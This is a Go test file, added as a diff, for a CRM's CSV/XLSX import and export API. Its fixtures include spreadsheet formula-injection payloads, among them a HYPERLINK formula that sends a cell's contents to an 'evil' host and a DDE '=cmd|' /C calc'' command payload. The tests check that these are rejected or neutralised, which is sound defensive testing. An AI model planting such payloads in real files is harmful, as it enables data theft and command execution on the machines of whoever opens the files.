@@ -1,0 +1,579 @@
+package api_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"mime/multipart"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+	"golang.org/x/text/encoding/simplifiedchinese"
+
+	"github.com/kamflow/kamflow"
+	"github.com/kamflow/kamflow/api"
+	"github.com/kamflow/kamflow/db"
+	"github.com/kamflow/kamflow/db/dbtest"
+	"github.com/kamflow/kamflow/sheet"
+)
+
+// multipartFile is a multipart/form-data body with the file in the part named file.
+func multipartFile(name string, data []byte) (body, contentType string) {
+	var b bytes.Buffer
+	w := multipart.NewWriter(&b)
+	w.WriteField("note", "ignored")
+	fw, _ := w.CreateFormFile("file", name)
+	fw.Write(data)
+	w.Close()
+	return b.String(), w.FormDataContentType()
+}
+
+// upload posts a file to /api/v1/imports?query as the user.
+func (e *testEnv) upload(as, query, name string, data []byte) *response {
+	body, ct := multipartFile(name, data)
+	res := e.serve(request{method: "POST", path: "/api/v1/imports?" + query, as: as, body: body,
+		headers: map[string]string{"Content-Type": ct}})
+	if err := api.CheckOpenAPI("POST", "/api/v1/imports", nil, res.status, res.body); err != nil {
+		e.t.Errorf("upload: %v", err)
+	}
+	return res
+}
+
+// get reads a path as the user, checks the answer against the OpenAPI document and returns it.
+func (e *testEnv) get(t *testing.T, as, path string, want int) *response {
+	t.Helper()
+	res := e.serve(request{method: "GET", path: path, as: as})
+	if res.status != want {
+		t.Fatalf("GET %s as %s: %d, want %d: %.500s", path, as, res.status, want, res.body)
+	}
+	if err := api.CheckOpenAPI("GET", path, nil, res.status, res.body); err != nil {
+		t.Error(err)
+	}
+	return res
+}
+
+func gbk(t *testing.T, s string) []byte {
+	t.Helper()
+	b, err := simplifiedchinese.GBK.NewEncoder().Bytes([]byte(s))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return b
+}
+
+// report is an import's answer: counts and issues, for exact comparison.
+type report struct {
+	ID        string `json:"id"`
+	Kind      string `json:"kind"`
+	DryRun    bool   `json:"dry_run"`
+	Status    string `json:"status"`
+	Format    string `json:"format"`
+	Encoding  string `json:"encoding"`
+	Total     int    `json:"total"`
+	Processed int    `json:"processed"`
+	Imported  int    `json:"imported"`
+	Skipped   int    `json:"skipped"`
+	Rejected  int    `json:"rejected"`
+	Error     string `json:"error"`
+	Issues    []struct {
+		Line     int    `json:"line"`
+		Column   string `json:"column"`
+		Field    string `json:"field"`
+		Code     string `json:"code"`
+		Message  string `json:"message"`
+		Outcome  string `json:"outcome"`
+		EntityID string `json:"entity_id"`
+	} `json:"issues"`
+}
+
+func decodeReport(t *testing.T, res *response) report {
+	t.Helper()
+	var r report
+	if err := json.Unmarshal(res.body, &r); err != nil {
+		t.Fatalf("%v: %s", err, res.body)
+	}
+	return r
+}
+
+// counts renders a report's head: status and counts.
+func (r report) counts() string {
+	s := fmt.Sprintf("%s dry_run=%v total=%d processed=%d imported=%d skipped=%d rejected=%d", r.Status, r.DryRun, r.Total,
+		r.Processed, r.Imported, r.Skipped, r.Rejected)
+	if r.Error != "" {
+		s += " error=" + r.Error
+	}
+	return s
+}
+
+// issues renders a report's issues one a line: line, outcome, column (field), code, message.
+func (r report) issues() string {
+	var b strings.Builder
+	for _, is := range r.Issues {
+		fmt.Fprintf(&b, "%d %s %s (%s) %s: %s\n", is.Line, is.Outcome, is.Column, is.Field, is.Code, is.Message)
+	}
+	return b.String()
+}
+
+func sameText(t *testing.T, what, got, want string) {
+	t.Helper()
+	if got != want {
+		t.Errorf("%s:\n%s\nwant:\n%s", what, got, want)
+	}
+}
+
+// accountsFile is a GBK-encoded CSV of accounts, as Excel on a Chinese Windows saves one, with
+// Chinese heads and a problem on most rows.
+const accountsFile = "客户编号,客户名称,行业,地区,负责人,备注\r\n" +
+	"C001,华东石化,石化,上海,kam2,\r\n" + // 2: imported, owned by kam2
+	"C002,北方重工,机械,辽宁,,\"多行\n备注\"\r\n" + // 3–4: imported, owned by the importer
+	"C003,\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",石化,上海,,\r\n" + // 5: a formula
+	"C004,华东石化,化工,江苏,,\r\n" + // 6: line 2 again
+	"C005,南方电力,电力,广东,kam3,\r\n" + // 7: kam3 is of another team
+	"C006,已有客户,钢铁,江苏,,\r\n" + // 8: created by hand before
+	"\r\n" + // 9: blank
+	"C007,西部钢铁,钢铁,四川,,-see mail\r\n" + // 10: a formula in the notes
+	"C008,Ｅａｓｔ Ｓｔｅｅｌ,steel,,,,extra\r\n" + // 11: a value beyond the heads
+	"C009,WEST  STEEL,steel,,nobody,\r\n" + // 12: no such user … but also:
+	"C010,west steel,steel,,,\r\n" + // 13: imported (line 12 was rejected)
+	"C011,West Steel,steel,,,@SUM(A1)\r\n" // 14: line 13 again (case and spaces folded), and a formula
+
+func TestImportAccounts(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		e := newEnv(t, d)
+		existing := e.must(201, "POST", "/api/v1/accounts", "kam1", `{"name":"已有客户"}`)["id"].(string)
+		file := gbk(t, accountsFile)
+
+		// The dry run reports every row and writes nothing but its report.
+		res := e.upload("kam1", "kind=accounts&dry_run=true", "客户.csv", file)
+		if res.status != http.StatusCreated {
+			t.Fatalf("dry run: %d %s", res.status, res.body)
+		}
+		dry := decodeReport(t, res)
+		sameText(t, "dry run", dry.counts(), "done dry_run=true total=11 processed=11 imported=3 skipped=1 rejected=7")
+		if dry.Format != "csv" || dry.Encoding != "gb18030" || dry.Kind != "accounts" {
+			t.Errorf("format %s, encoding %s, kind %s", dry.Format, dry.Encoding, dry.Kind)
+		}
+		wantIssues := `5 rejected 客户名称 (name) formula: "=HYPERLINK(\"http://evil/?x=\"&A1)" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character
+6 rejected 客户名称 (name) duplicate: the same account as line 2 (华东石化)
+7 rejected 负责人 (owner) unknown_owner: kam3 is not a KAM of the team
+8 skipped 客户名称 (name) exists: an account named 已有客户 is already in kamflow
+10 rejected 备注 (notes) formula: "-see mail" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character
+11 rejected column G () extra_cells: a value (extra) in a column without a head
+12 rejected 负责人 (owner) unknown_owner: nobody is not a KAM of the team
+14 rejected 客户名称 (name) duplicate: the same account as line 13 (West Steel)
+14 rejected 备注 (notes) formula: "@SUM(A1)" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character
+`
+		sameText(t, "dry run issues", dry.issues(), wantIssues)
+		if dry.Issues[3].EntityID != existing {
+			t.Errorf("line 8 matched %q, want %s", dry.Issues[3].EntityID, existing)
+		}
+		if list := e.must(200, "GET", "/api/v1/accounts", "kam1", ""); list["total"].(float64) != 1 {
+			t.Fatalf("the dry run created accounts: %v", list)
+		}
+		// Its report reads back the same.
+		again := decodeReport(t, e.get(t, "kam1", "/api/v1/imports/"+dry.ID, 200))
+		sameText(t, "dry run read back", again.counts()+"\n"+again.issues(), dry.counts()+"\n"+dry.issues())
+
+		// The real run answers at once with the rows it will not import; then the rows commit.
+		res = e.upload("kam1", "kind=accounts&dry_run=false", "客户.csv", file)
+		if res.status != http.StatusCreated || res.header.Get("Location") == "" {
+			t.Fatalf("real run: %d %s", res.status, res.body)
+		}
+		run := decodeReport(t, res)
+		sameText(t, "real run at once", run.counts(), "pending dry_run=false total=11 processed=8 imported=0 skipped=1 rejected=7")
+		e.srv.WaitImports()
+		done := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
+		sameText(t, "real run", done.counts(), "done dry_run=false total=11 processed=11 imported=3 skipped=1 rejected=7")
+		sameText(t, "real run issues", done.issues(), wantIssues)
+		accounts := e.must(200, "GET", "/api/v1/accounts?limit=200", "kam1", "")["items"].([]any)
+		var got []string
+		for _, a := range accounts {
+			m := a.(map[string]any)
+			got = append(got, fmt.Sprintf("%s/%s/%s/%v/%q", m["name"], m["owner"], m["team_id"], nilEmpty(m["industry"]), fmt.Sprint(nilEmpty(m["notes"]))))
+		}
+		sameText(t, "accounts", strings.Join(got, "\n"), `west steel/kam1/east/steel/""
+北方重工/kam1/east/机械/"多行\n备注"
+华东石化/kam2/east/石化/""
+已有客户/kam1/east//""`)
+
+		// The rejected rows as a file: line and reasons, then the row as it was.
+		rej := e.get(t, "kam1", "/api/v1/imports/"+done.ID+"/rejected?lang=zh-CN", 200)
+		if ct := rej.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
+			t.Errorf("Content-Type %s", ct)
+		}
+		sameText(t, "rejected file", string(rej.body), "\ufeff导入行号,导入问题,客户编号,客户名称,行业,地区,负责人,备注\r\n"+
+			`5,"客户名称: ""=HYPERLINK(\""http://evil/?x=\""&A1)"" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character",C003,"'=HYPERLINK(""http://evil/?x=""&A1)",石化,上海,,`+"\r\n"+
+			"6,客户名称: the same account as line 2 (华东石化),C004,华东石化,化工,江苏,,\r\n"+
+			"7,负责人: kam3 is not a KAM of the team,C005,南方电力,电力,广东,kam3,\r\n"+
+			`10,"备注: ""-see mail"" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character",C007,西部钢铁,钢铁,四川,,'-see mail`+"\r\n"+
+			"11,column G: a value (extra) in a column without a head,C008,Ｅａｓｔ Ｓｔｅｅｌ,steel,,,,extra\r\n"+
+			"12,负责人: nobody is not a KAM of the team,C009,WEST  STEEL,steel,,nobody,\r\n"+
+			`14,"客户名称: the same account as line 13 (West Steel); 备注: ""@SUM(A1)"" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character",C011,West Steel,steel,,,'@SUM(A1)`+"\r\n")
+
+		// Running the same file again creates nothing: the imported rows are skipped now.
+		res = e.upload("kam1", "kind=accounts&dry_run=false", "客户.csv", file)
+		e.srv.WaitImports()
+		rerun := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
+		sameText(t, "re-run", rerun.counts(), "done dry_run=false total=11 processed=11 imported=0 skipped=4 rejected=7")
+		sameText(t, "re-run skips", strings.Join(filterLines(rerun.issues(), "skipped"), "\n"), strings.Join([]string{
+			"2 skipped 客户名称 (name) exists: account 华东石化 is already in kamflow",
+			"3 skipped 客户名称 (name) exists: account 北方重工 is already in kamflow",
+			"8 skipped 客户名称 (name) exists: an account named 已有客户 is already in kamflow",
+			"13 skipped 客户名称 (name) exists: account west steel is already in kamflow",
+		}, "\n"))
+		if n := e.must(200, "GET", "/api/v1/accounts", "kam1", "")["total"].(float64); n != 4 {
+			t.Errorf("%v accounts after the re-run, want 4", n)
+		}
+		// Each imported account's creation is on the audit trail, and each run.
+		entries, _, err := d.Audit(context.Background(), kamflow.AuditFilter{EntityType: "import"})
+		if err != nil || len(entries) != 2 || entries[1].Summary != "accounts imported from 客户.csv: 3 of 11 rows imported, 1 skipped as present, 7 rejected" {
+			t.Errorf("audit of the runs: %+v %v", entries, err)
+		}
+	})
+}
+
+func filterLines(s, word string) []string {
+	var out []string
+	for _, l := range strings.Split(s, "\n") {
+		if strings.Contains(l, " "+word+" ") {
+			out = append(out, l)
+		}
+	}
+	return out
+}
+
+// TestImportFileErrors: a file that cannot be read at all is refused whole, with the reason.
+func TestImportFileErrors(t *testing.T) {
+	e := newEnv(t, dbtest.SQLite(t))
+	huge := bytes.Repeat([]byte("x"), kamflow.MaxImportBytes+1)
+	var many bytes.Buffer
+	many.WriteString("name\n")
+	for i := range kamflow.MaxImportRows + 1 {
+		fmt.Fprintf(&many, "a%d\n", i)
+	}
+	for _, c := range []struct {
+		name, query, file string
+		data              []byte
+		status            int
+		want              string // code, reason and message
+	}{
+		{"GBK garbage", "kind=accounts", "a.csv", []byte("客户名称\n\x81\x30\x81\n"), 400,
+			"invalid bad_encoding: the file's text cannot be read (line 2): it is neither UTF-8 nor GBK/GB18030; save it as CSV UTF-8 or as .xlsx"},
+		{"wrong columns", "kind=accounts", "a.csv", []byte("name,industy,phone\nACME,steel,1\n"), 400,
+			"invalid unknown_columns: the file has columns kamflow does not know: industy, phone (the accounts template lists the columns)"},
+		{"no name column", "kind=accounts", "a.csv", []byte("行业,地区\n钢铁,江苏\n"), 400,
+			"invalid missing_columns: the file lacks required columns: name (客户名称)"},
+		{"deals without account", "kind=deals", "d.csv", []byte("title,value,stage\nPumps,1,bid\n"), 400,
+			"invalid missing_columns: the file lacks required columns: account (客户名称) or account_id (客户编号)"},
+		{"two name columns", "kind=accounts", "a.csv", []byte("name,客户名称\nA,B\n"), 400,
+			"invalid duplicate_columns: the file has two columns for one field: 客户名称"},
+		{"empty", "kind=accounts", "a.csv", []byte("\ufeff"), 400,
+			"invalid empty: the file is empty: it needs a head row and rows under it"},
+		{"xls", "kind=accounts", "a.xls", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 64)...), 400,
+			"invalid unsupported_format: this is an Excel 97–2003 (.xls) or password-protected workbook: save it as .xlsx (without a password) or as CSV"},
+		{"huge", "kind=accounts", "a.csv", huge, 413,
+			"too_large too_large: the file is larger than 20 MiB: split it into several files"},
+		{"too many rows", "kind=accounts", "a.csv", many.Bytes(), 413,
+			"too_large too_many_rows: the file has more than 100000 rows: split it into several files"},
+		{"no kind", "", "a.csv", []byte("name\nA\n"), 400, "invalid : kind \"\" must be one of accounts, contacts, deals"},
+		{"bad dry_run", "kind=accounts&dry_run=perhaps", "a.csv", []byte("name\nA\n"), 400, "invalid : dry_run must be true or false"},
+		{"not my team", "kind=accounts&team=west", "a.csv", []byte("name\nA\n"), 400, "invalid : team \"west\" is not one of yours"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			res := e.upload("kam1", c.query, c.file, c.data)
+			code, _ := lookup(res.json, "error.code")
+			reason, _ := lookup(res.json, "error.details.reason")
+			msg, _ := lookup(res.json, "error.message")
+			got := fmt.Sprintf("%v %v: %v", code, nilEmpty(reason), msg)
+			if res.status != c.status || got != c.want {
+				t.Errorf("%d %s\nwant %d %s", res.status, got, c.status, c.want)
+			}
+		})
+	}
+	// Not a multipart body at all.
+	res := e.serve(request{method: "POST", path: "/api/v1/imports?kind=accounts", as: "kam1", body: `{"file":"x"}`})
+	if msg, _ := lookup(res.json, "error.message"); res.status != 400 || msg != "send the file as multipart/form-data, in a part named file" {
+		t.Errorf("JSON body: %d %s", res.status, res.body)
+	}
+	// A body declared larger than the limit is refused before it is read.
+	body, ct := multipartFile("a.csv", []byte("name\nA\n"))
+	req := request{method: "POST", path: "/api/v1/imports?kind=accounts", as: "kam1", body: body, headers: map[string]string{"Content-Type": ct}}
+	if res := e.serve(req); res.status != 201 {
+		t.Errorf("a small file: %d %s", res.status, res.body)
+	}
+	// The other routes keep the API's 1 MiB limit.
+	res = e.serve(request{method: "POST", path: "/api/v1/accounts", as: "kam1", body: `{"name":"` + strings.Repeat("x", 1<<20) + `"}`})
+	if msg, _ := lookup(res.json, "error.message"); res.status != 413 || msg != "request body is larger than 1MiB" {
+		t.Errorf("a large JSON body: %d %.200s", res.status, res.body)
+	}
+}
+
+func nilEmpty(v any) any {
+	if v == nil {
+		return ""
+	}
+	return v
+}
+
+// dealsWorkbook builds an XLSX file of deals with typed cells: amounts as numbers, dates as Excel
+// dates, stages in Chinese.
+func dealsWorkbook(t *testing.T, rows [][]any) []byte {
+	t.Helper()
+	f := excelize.NewFile()
+	defer f.Close()
+	date, _ := f.NewStyle(&excelize.Style{NumFmt: 14})
+	for i, r := range rows {
+		for j, v := range r {
+			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
+			if v == nil {
+				continue
+			}
+			if tm, ok := v.(time.Time); ok {
+				f.SetCellValue("Sheet1", cell, tm)
+				f.SetCellStyle("Sheet1", cell, cell, date)
+				continue
+			}
+			f.SetCellValue("Sheet1", cell, v)
+		}
+	}
+	var b bytes.Buffer
+	if err := f.Write(&b); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+func TestImportDeals(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		e := newEnv(t, d)
+		accounts := "external_id,name\nCRM-1,华东石化\nCRM-2,北方重工\n"
+		res := e.upload("kam1", "kind=accounts&dry_run=false", "accounts.csv", []byte(accounts))
+		e.srv.WaitImports()
+		if r := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200)); r.Imported != 2 {
+			t.Fatalf("accounts: %s", r.counts())
+		}
+		byHand := e.must(201, "POST", "/api/v1/accounts", "kam1", `{"name":"Manual Co"}`)["id"].(string)
+		e.must(201, "POST", "/api/v1/deals", "kam1", `{"account_id":"`+byHand+`","title":"Valves","value":"1.00","currency":"CNY"}`)
+
+		close := time.Date(2027, 3, 31, 0, 0, 0, 0, time.UTC)
+		file := dealsWorkbook(t, [][]any{
+			{"商机编号", "客户编号", "客户名称", "商机名称", "金额", "币种", "预计成交日期", "负责人", "阶段", "状态"},
+			{"D-1", "CRM-1", nil, "Boiler feed pumps", 12000000.5, "人民币", close, "kam2", "投标阶段", "进行中"}, // 2: imported at bid
+			{"D-2", nil, "北方重工", "DCS retrofit", "1200万", nil, "2027/6/30", nil, "entry", nil},          // 3: imported at entry
+			{"D-3", "CRM-9", nil, "Ghost", 1, nil, nil, nil, "bid", nil},                                // 4: no such account
+			{"D-4", "CRM-1", nil, "Lost one", 1, nil, nil, nil, "谈判", "丢单"},                             // 5: not open
+			{"D-5", "CRM-1", nil, "Won one", 1, nil, nil, nil, "交付", nil},                               // 6: in delivery
+			{"D-6", "CRM-2", nil, "Bad", "12,3", "dollars", "31/03/2027", "kam3", "closing", nil},       // 7: everything wrong
+			{"D-1", "CRM-2", nil, "Again", 5, nil, nil, nil, "bid", nil},                                // 8: line 2's id
+			{nil, nil, "Manual Co", "valves", 3, nil, nil, nil, "proposal", nil},                        // 9: present (by hand)
+			{nil, nil, "Manual Co", "Gauges", -4, nil, nil, nil, "proposal", nil},                       // 10: negative
+			{nil, nil, "Manual Co", "Gauges", 4.125, nil, 46477, nil, "development", nil},               // 11: three decimals
+			{nil, nil, "Manual Co", "=1+1", 4, nil, nil, nil, "development", nil},                       // 12: a formula
+		})
+		res = e.upload("kam1", "kind=deals&dry_run=true", "商机.xlsx", file)
+		dry := decodeReport(t, res)
+		sameText(t, "dry run", dry.counts(), "done dry_run=true total=11 processed=11 imported=2 skipped=1 rejected=8")
+		if dry.Format != "xlsx" || dry.Encoding != "" {
+			t.Errorf("format %s encoding %q", dry.Format, dry.Encoding)
+		}
+		want := `4 rejected 客户编号 (account_id) unknown_account: no account CRM-9 in the team: import the accounts first
+5 rejected 状态 (status) not_open: the deal is lost: only open deals are imported
+6 rejected 阶段 (stage) not_open: a deal in delivery has its contract signed: only open deals (development to negotiation) are imported
+7 rejected 金额 (value) bad_money: "12,3" is not an amount like 1200000.00
+7 rejected 币种 (currency) bad_currency: "dollars" is not a currency code such as CNY or USD
+7 rejected 预计成交日期 (expected_close) bad_date: "31/03/2027" is not a date: write it as YYYY-MM-DD
+7 rejected 负责人 (owner) unknown_owner: kam3 is not a KAM of the team
+7 rejected 阶段 (stage) unknown_stage: "closing" is not a stage (development, entry, proposal, bid, negotiation, or 开发阶段 …)
+8 rejected 商机编号 (external_id) duplicate: the same deal as line 2 (external id D-1)
+9 skipped 商机名称 (title) exists: a deal Valves on Manual Co is already in kamflow
+10 rejected 金额 (value) bad_money: "-4" is negative
+11 rejected 金额 (value) bad_money: "4.125" has more than two decimals
+12 rejected 商机名称 (title) formula: "=1+1" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character
+`
+		sameText(t, "dry run issues", dry.issues(), want)
+
+		res = e.upload("kam1", "kind=deals&dry_run=false", "商机.xlsx", file)
+		e.srv.WaitImports()
+		done := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
+		sameText(t, "real run", done.counts(), "done dry_run=false total=11 processed=11 imported=2 skipped=1 rejected=8")
+
+		// The deals run at their stages, marked imported; the gates before count as passed.
+		list := e.must(200, "GET", "/api/v1/deals?limit=200", "kam1", "")["items"].([]any)
+		var bid, entry string
+		for _, it := range list {
+			m := it.(map[string]any)
+			switch m["title"] {
+			case "Boiler feed pumps":
+				bid = m["id"].(string)
+			case "DCS retrofit":
+				entry = m["id"].(string)
+			}
+		}
+		deal := e.must(200, "GET", "/api/v1/deals/"+bid, "kam2", "")
+		if deal["stage"] != "bid" || deal["status"] != "open" || deal["value"] != "12000000.50" || deal["expected_close"] != "2027-03-31" ||
+			deal["owner"] != "kam2" || deal["team_id"] != "east" {
+			t.Errorf("imported deal: %v", deal)
+		}
+		if m, _ := deal["imported"].(map[string]any); m["stage"] != "bid" || m["import_id"] != done.ID || m["line"] != float64(2) || m["by"] != "kam1" {
+			t.Errorf("imported marker: %v", deal["imported"])
+		}
+		if err := api.CheckOpenAPI("GET", "/api/v1/deals/"+bid, nil, 200, mustJSON(deal)); err != nil {
+			t.Error(err)
+		}
+		hist := e.must(200, "GET", "/api/v1/deals/"+bid+"/history", "kam1", "")["items"].([]any)
+		if h := hist[0].(map[string]any); len(hist) != 1 || h["kind"] != "imported" || h["to_stage"] != "bid" || h["actor"] != "kam1" {
+			t.Errorf("history: %v", hist)
+		}
+		stored, err := d.Deal(context.Background(), bid)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, st := range []kamflow.Stage{kamflow.Development, kamflow.Entry, kamflow.Proposal} {
+			if g := stored.GateOf(st); !g.Met || g.Items[0].Detail != kamflow.ImportedEvidence {
+				t.Errorf("gate of %s: %+v", st, g)
+			}
+		}
+		if g := stored.Gate(); g.Met {
+			t.Errorf("the bid gate is met without a bid: %+v", g)
+		}
+		if deal := e.must(200, "GET", "/api/v1/deals/"+entry, "kam1", ""); deal["value"] != "12000000.00" || deal["expected_close"] != "2027-06-30" || deal["owner"] != "kam1" {
+			t.Errorf("entry deal: %v", deal)
+		}
+		// The deal goes on from its stage: the bid's evidence moves it to negotiation.
+		e.must(200, "PUT", "/api/v1/deals/"+bid+"/bid", "kam2", `{"cost":"9000000.00","price":"12000000.00","submitted":true}`)
+		if d := e.must(200, "POST", "/api/v1/deals/"+bid+"/advance", "kam2", ""); d["stage"] != "negotiation" {
+			t.Errorf("advance: %v", d["stage"])
+		}
+
+		// Again: nothing new.
+		res = e.upload("kam1", "kind=deals&dry_run=false", "商机.xlsx", file)
+		e.srv.WaitImports()
+		rerun := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
+		sameText(t, "re-run", rerun.counts(), "done dry_run=false total=11 processed=11 imported=0 skipped=3 rejected=8")
+		if n := e.must(200, "GET", "/api/v1/deals", "kam1", "")["total"].(float64); n != 3 {
+			t.Errorf("%v deals, want 3", n)
+		}
+	})
+}
+
+func mustJSON(v any) []byte {
+	b, _ := json.Marshal(v)
+	return b
+}
+
+// TestExportRoundTrip exports what a user may see, as CSV and XLSX in both languages, and
+// imports it again in a dry run: every row is present already.
+func TestExportRoundTrip(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		e := newEnv(t, d)
+		res := e.upload("kam1", "kind=accounts&dry_run=false", "accounts.csv",
+			[]byte("name,industry,notes\n华东石化,石化,\"两行\n备注\"\nACME,steel,+86 21 5555 1234\n"))
+		e.srv.WaitImports()
+		acc := e.must(201, "POST", "/api/v1/accounts", "kam2", `{"name":"=cmd|' /C calc'!A0","region":"Jiangsu"}`)["id"].(string)
+		deal := e.must(201, "POST", "/api/v1/deals", "kam1", `{"account_id":"`+acc+`","title":"Pumps","value":"2500000.00","currency":"CNY","expected_close":"2027-03-31"}`)["id"].(string)
+		e.must(200, "PUT", "/api/v1/deals/"+deal+"/engineers", "kam1", `{"engineers":["e1"]}`)
+		e.must(201, "POST", "/api/v1/accounts", "kam3", `{"name":"West only"}`)
+		res = e.upload("kam1", "kind=deals&dry_run=false", "deals.csv", []byte("account,title,value,stage\n华东石化,Boiler,100,bid\n"))
+		e.srv.WaitImports()
+		_ = res
+
+		csvAccounts := e.get(t, "kam1", "/api/v1/exports/accounts?format=csv", 200)
+		lines := strings.Split(strings.TrimSuffix(string(csvAccounts.body), "\r\n"), "\r\n")
+		if len(lines) != 5 || lines[0] != "\ufeffid,name,industry,region,address,owner,team_id,notes,created_at,updated_at" ||
+			lines[1] != acc+",'=cmd|' /C calc'!A0,,Jiangsu,,kam2,east,,2026-03-02T09:00:00Z,2026-03-02T09:00:00Z" ||
+			!strings.HasSuffix(lines[2], ",ACME,steel,,,kam1,east,'+86 21 5555 1234,2026-03-02T09:00:00Z,2026-03-02T09:00:00Z") ||
+			!strings.HasSuffix(lines[3], `,华东石化,石化,,,kam1,east,"两行`) || lines[4] != `备注",2026-03-02T09:00:00Z,2026-03-02T09:00:00Z` {
+			t.Errorf("accounts CSV:\n%q", lines)
+		}
+		if h := csvAccounts.header.Get("Content-Disposition"); h != `attachment; filename="kamflow-accounts-2026-03-02.csv"` {
+			t.Errorf("Content-Disposition %s", h)
+		}
+		for _, q := range []string{"format=csv", "format=xlsx", "format=csv&lang=zh-CN", "format=xlsx&lang=zh-CN"} {
+			for _, kind := range []string{"accounts", "deals"} {
+				out := e.get(t, "kam1", "/api/v1/exports/"+kind+"?"+q, 200)
+				res := e.upload("kam1", "kind="+kind+"&dry_run=true", "export."+strings.TrimPrefix(strings.Split(q, "&")[0], "format="), out.body)
+				r := decodeReport(t, res)
+				want := map[string]int{"accounts": 3, "deals": 2}[kind]
+				if res.status != 201 || r.Total != want || r.Skipped != want || r.Imported != 0 || r.Rejected != 0 {
+					t.Errorf("%s %s: %d %s\n%s", kind, q, res.status, r.counts(), r.issues())
+				}
+			}
+		}
+		// XLSX cells are typed: the deal's value is a number with two decimals, its close a date.
+		x := e.get(t, "kam1", "/api/v1/exports/deals?format=xlsx", 200)
+		if ct := x.header.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
+			t.Errorf("Content-Type %s", ct)
+		}
+		f, err := sheet.Read(x.body, "x.xlsx", 10)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, r := range f.Rows[1:] {
+			if r.Cells[0] == deal && (r.Cells[4] != "2500000" || r.Cells[6] != "46477" || r.Cells[2] != "=cmd|' /C calc'!A0") {
+				t.Errorf("XLSX deal row %q", r.Cells)
+			}
+		}
+
+		// Everything a user may see, and nothing else.
+		count := func(as, kind string) int {
+			out := e.get(t, as, "/api/v1/exports/"+kind, 200)
+			f, err := sheet.Read(out.body, "x.csv", 100)
+			if err != nil {
+				t.Fatal(err)
+			}
+			return len(f.Rows) - 1
+		}
+		for _, c := range []struct {
+			as              string
+			accounts, deals int
+		}{{"kam1", 3, 2}, {"kam2", 3, 2}, {"d1", 3, 2}, {"kam3", 1, 0}, {"d2", 1, 0}, {"e1", 1, 1}, {"e2", 0, 0}} {
+			if a, dl := count(c.as, "accounts"), count(c.as, "deals"); a != c.accounts || dl != c.deals {
+				t.Errorf("%s exports %d accounts and %d deals, want %d and %d", c.as, a, dl, c.accounts, c.deals)
+			}
+		}
+		e.get(t, "admin", "/api/v1/exports/accounts", 403)
+		e.get(t, "kam1", "/api/v1/exports/users", 404)
+		e.get(t, "kam1", "/api/v1/exports/accounts?format=pdf", 400)
+	})
+}
+
+// TestImportVisibility: an import's report and rejected rows are its user's, its team's
+// directors' and the admins'.
+func TestImportVisibility(t *testing.T) {
+	e := newEnv(t, dbtest.SQLite(t))
+	id := decodeReport(t, e.upload("kam1", "kind=accounts", "a.csv", []byte("name,owner\nA,kam3\n"))).ID
+	for as, want := range map[string]int{"kam1": 200, "d1": 200, "admin": 200, "kam2": 404, "kam3": 404, "d2": 404, "e1": 403} {
+		e.get(t, as, "/api/v1/imports/"+id, want)
+		e.get(t, as, "/api/v1/imports/"+id+"/rejected?format=xlsx", want)
+	}
+	for as, want := range map[string]int{"kam1": 1, "d1": 1, "admin": 1, "kam2": 0, "d2": 0} {
+		if items := e.must(200, "GET", "/api/v1/imports", as, "")["items"].([]any); len(items) != want {
+			t.Errorf("%s lists %d imports, want %d", as, len(items), want)
+		}
+	}
+	// The template, with the required heads marked.
+	tpl := e.get(t, "kam1", "/api/v1/imports/template?kind=deals&lang=zh-CN", 200)
+	sameText(t, "template", string(tpl.body), "\ufeff外部编号,客户编号,客户名称,商机名称*,金额*,币种,预计成交日期,负责人,阶段*,状态\r\n")
+}
+
+// TestImportInterrupted: a run whose record stands still (its server stopped) shows as failed,
+// and running the file again imports the rest.
+func TestImportInterrupted(t *testing.T) {
+	d := dbtest.SQLite(t)
+	e := newEnv(t, d)
+	imp := &kamflow.Import{ID: "imp-x", Kind: kamflow.ImportAccounts, Status: kamflow.ImportRunning, Format: "csv", TeamID: "east",
+		CreatedBy: "kam1", Total: 10, Processed: 4, Imported: 4, CreatedAt: T0, UpdatedAt: T0}
+	if err := d.CreateImport(context.Background(), imp, nil); err != nil {
+		t.Fatal(err)
+	}
+	if r := decodeReport(t, e.get(t, "kam1", "/api/v1/imports/imp-x", 200)); r.Status != "running" {
+		t.Errorf("at once: %s", r.counts())
+	}
+	e.clock.Set(T0.Add(3 * time.Minute))
+	r := decodeReport(t, e.get(t, "kam1", "/api/v1/imports/imp-x", 200))
+	sameText(t, "later", r.counts(), "failed dry_run=false total=10 processed=4 imported=4 skipped=0 rejected=0 error=interrupted: no progress since 2026-03-02T09:00:00Z (the server running it stopped); run the same file again to import the rest")
+}
